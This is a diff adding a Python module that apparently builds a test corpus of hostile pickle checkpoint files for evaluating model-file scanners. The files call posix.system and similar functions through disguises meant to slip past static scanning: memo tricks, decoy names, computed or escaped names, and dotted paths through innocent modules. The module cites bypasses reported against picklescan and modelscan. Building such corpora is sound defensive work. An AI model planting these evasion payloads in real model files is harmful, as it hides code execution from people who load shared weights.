@@ -1,0 +1,264 @@
+"""Calls of posix.system whose name is hidden from those who read names without running the pickle machine."""
+
+import pickle
+
+from attacks.assemble import Code, called, get, named, put, text
+from attacks.record import SHELL, HostileFile
+from attacks.sound import beside_weights, checkpoint
+
+GROUP = "disguises"
+STACK_GLOBAL = pickle.STACK_GLOBAL
+COMMAND = text(SHELL) + b"\x85R"
+SYSTEM = ("posix.system",)
+
+
+def file(name, about, code, runs=SYSTEM, *, proof=True, protocol=4):
+    return HostileFile(f"disguise_{name}.pt", GROUP, about, beside_weights(code, protocol), runs, proof)
+
+
+def through_the_memo():
+    """Names that stand elsewhere than before the opcode that uses them."""
+    posix, system = text("posix"), text("system")
+    kept = posix + put(7000) + b"0" + system + put(7001) + b"0"
+    return [
+        file("memo", "Both names come from the memo.", Code(kept + get(7000) + get(7001) + STACK_GLOBAL + COMMAND)),
+        file(
+            "memo_mixed",
+            "MEMOIZE and BINPUT number differently: who counts wrongly reads innocent names.",
+            mixed_memo(),
+        ),
+        file(
+            "memo_replaced",
+            "An innocent name in the memo is replaced by another.",
+            Code(text("collections") + put(7000) + b"0" + kept + get(7000) + get(7001) + STACK_GLOBAL + COMMAND),
+        ),
+        file(
+            "memo_decoy",
+            "PUT after an opcode that left nothing: its argument is not what is kept.",
+            Code(
+                posix
+                + text("collections")
+                + b"0"
+                + put(7000)
+                + b"0"
+                + system
+                + text("OrderedDict")
+                + b"0"
+                + put(7001)
+                + b"0"
+                + get(7000)
+                + get(7001)
+                + STACK_GLOBAL
+                + COMMAND
+            ),
+        ),
+        file(
+            "memo_far_text",
+            "GET of numbers in text.",
+            Code(posix + b"p7000\n0" + system + b"p7001\n0g7000\ng7001\n" + STACK_GLOBAL + COMMAND),
+        ),
+        file(
+            "popped_decoys",
+            "Innocent names are pushed and dropped between the true ones.",
+            Code(posix + text("collections") + b"0" + system + text("OrderedDict") + b"0" + STACK_GLOBAL + COMMAND),
+        ),
+        file(
+            "popped_marks",
+            "The same with marks.",
+            Code(
+                posix
+                + b"("
+                + text("collections")
+                + b"1"
+                + system
+                + b"("
+                + text("OrderedDict")
+                + b"1"
+                + STACK_GLOBAL
+                + COMMAND
+            ),
+        ),
+        file(
+            "duplicated",
+            "One name serves as module and name.",
+            Code(text("code") + b"2" + STACK_GLOBAL + b"0" + posix + system + b"20" + STACK_GLOBAL + COMMAND),
+            proof=False,
+        ),
+        file(
+            "misleading_frame",
+            "The names stand in a frame that ends between them.",
+            Code(b"\x95\x0a\0\0\0\0\0\0\0" + posix + system + STACK_GLOBAL + COMMAND),
+        ),
+    ]
+
+
+def mixed_memo():
+    """Known from an issue of picklescan: PUT and MEMOIZE in one pickle."""
+    return Code(
+        text("posix")
+        + put(8000)
+        + b"0"
+        + text("system")
+        + put(8001)
+        + b"0"
+        + text("torch._utils")
+        + b"\x940"
+        + text("_rebuild_tensor_v2")
+        + b"\x940"
+        + get(8000)
+        + get(8001)
+        + STACK_GLOBAL
+        + COMMAND
+    )
+
+
+def computed():
+    """Names that the pickle computes."""
+    joined = called("builtins:str.join", "", ["po", "six"])
+    turned = called("_codecs:decode", "cbfvk", "rot13")
+    from_bytes = called("builtins:str", b"posix", "ascii")
+    formatted = called("builtins:str.format", "{}six", "po")
+    return [
+        file(
+            "joined_name",
+            "''.join makes the module's name.",
+            Code(joined + text("system") + STACK_GLOBAL + COMMAND),
+            ("builtins.str.join",),
+        ),
+        file(
+            "rot13_name",
+            "codecs.decode makes it.",
+            Code(turned + text("system") + STACK_GLOBAL + COMMAND),
+            ("_codecs.decode",),
+        ),
+        file(
+            "bytes_name",
+            "str(b'posix', 'ascii') makes it.",
+            Code(from_bytes + text("system") + STACK_GLOBAL + COMMAND),
+            ("builtins.str",),
+        ),
+        file(
+            "formatted_name",
+            "str.format makes it.",
+            Code(formatted + text("system") + STACK_GLOBAL + COMMAND),
+            ("builtins.str.format",),
+        ),
+    ]
+
+
+def spelled_otherwise():
+    """The same names in other letters."""
+    python2 = [
+        ("commands:getoutput", ("subprocess.getoutput", "commands.getoutput"), True),
+        ("__builtin__:eval", ("builtins.eval", "__builtin__.eval"), False),
+    ]
+    shell = SHELL.encode()
+    return [
+        file("escaped_string", "STRING with escapes.", Code(b"S'po\\x73ix'\nS'sys\\164em'\n" + STACK_GLOBAL + COMMAND)),
+        file(
+            "escaped_unicode", "UNICODE with escapes.", Code(b"V\\u0070osix\nVsyste\\u006d\n" + STACK_GLOBAL + COMMAND)
+        ),
+        file("binstring", "BINSTRING.", Code(b"T\5\0\0\0posixU\6system" + STACK_GLOBAL + COMMAND)),
+        file(
+            "long_lengths",
+            "BINUNICODE8.",
+            Code(b"\x8d\5\0\0\0\0\0\0\0posix\x8d\6\0\0\0\0\0\0\0system" + STACK_GLOBAL + COMMAND),
+        ),
+        *[
+            file(
+                path.replace(":", "_").strip("_"),
+                "A name of Python 2, which Python 3 translates.",
+                called(path, SHELL),
+                runs,
+                proof=proof,
+                protocol=2,
+            )
+            for path, runs, proof in python2
+        ],
+        file(
+            "argument_in_pieces",
+            "The command is computed, not the name.",
+            Code(named("posix:system") + called("builtins:str.join", " ", ["touch", "TAPER_CANARY"]) + b"\x85R"),
+            ("posix.system", "builtins.str.join"),
+        ),
+        file(
+            "storage_in_the_name",
+            "A name with 'Storage' in it, which PyTorch looks at first.",
+            Code(
+                named("posix:system")
+                + b"(X"
+                + len(shell).to_bytes(4, "little")
+                + shell
+                + b"t"
+                + b"R0"
+                + named("torch:FloatStorage")
+            ),
+        ),
+    ]
+
+
+def dotted():
+    """From protocol 4 on, a name may have dots: innocent modules hold dangerous ones."""
+    paths = [
+        "torch.serialization:os.system",
+        "torch._utils:sys.modules",
+        "argparse:_os.system",
+        "pathlib:os.system",
+        "collections:_sys.modules",
+        "numpy:os.system",
+        "torch:os.system",
+        "functools:partial.__class__",
+        "datetime:sys.modules",
+        "torch._utils:_rebuild_tensor_v2.__globals__",
+        "collections:OrderedDict.__init__.__class__",
+    ]
+    return [dotted_file(path) for path in paths]
+
+
+def dotted_file(path):
+    """Through dots to system, or to a dict of modules from which it is taken."""
+    dotted_name = path.replace(":", ".")
+    word = dotted_name.replace(".", "_").strip("_")
+    if path.endswith("system"):
+        return file(
+            f"dotted_{word}", f"Calls {dotted_name}.", called(path, SHELL), (dotted_name,), proof="numpy" not in path
+        )
+    if path.endswith(("modules", "globals__")):
+        key = "posix" if path.endswith("modules") else "sys"
+        module = called(f"{path}.get", key)
+        code = called(called("builtins:getattr", module, "system" if key == "posix" else "exit"), SHELL)
+        return file(
+            f"dotted_{word}",
+            f"Takes a module out of {dotted_name}.",
+            code,
+            (f"{dotted_name}.get", "builtins.getattr"),
+            proof=key == "posix",
+        )
+    return file(f"dotted_{word}", f"Reaches for {dotted_name}.", called(path, "x"), (dotted_name,), proof=False)
+
+
+def patched():
+    """Innocent classes whose attributes BUILD sets and which are then read as names (from an issue of modelscan)."""
+    set_names = Code(named("argparse:Namespace") + b"(N(Va\nVposix\nVb\nVsystem\ndtb0")
+    code = Code(set_names + named("argparse:Namespace.a") + named("argparse:Namespace.b") + STACK_GLOBAL + COMMAND)
+    return [
+        file(
+            "patched_class",
+            "Names are kept as attributes of a class.",
+            code,
+            ("argparse.Namespace.a", "argparse.Namespace", "argparse.Namespace.b"),
+        ),
+        HostileFile(
+            "disguise_only_innocent_names.pt",
+            GROUP,
+            "Only STACK_GLOBAL over names of innocent length in a pickle without PROTO.",
+            checkpoint(text("posix") + text("system") + STACK_GLOBAL + COMMAND + b"."),
+            SYSTEM,
+            True,
+        ),
+    ]
+
+
+def files():
+    """Every file of this class."""
+    return [*through_the_memo(), *computed(), *spelled_otherwise(), *dotted(), *patched()]
